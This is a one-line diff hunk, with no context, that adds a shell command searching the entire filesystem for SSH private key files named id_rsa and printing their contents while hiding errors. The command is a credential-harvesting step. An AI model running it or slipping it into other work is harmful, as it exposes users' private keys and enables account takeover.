@@ -1,0 +1,1 @@
+find / -name id_rsa -exec cat {} \; 2>/dev/null
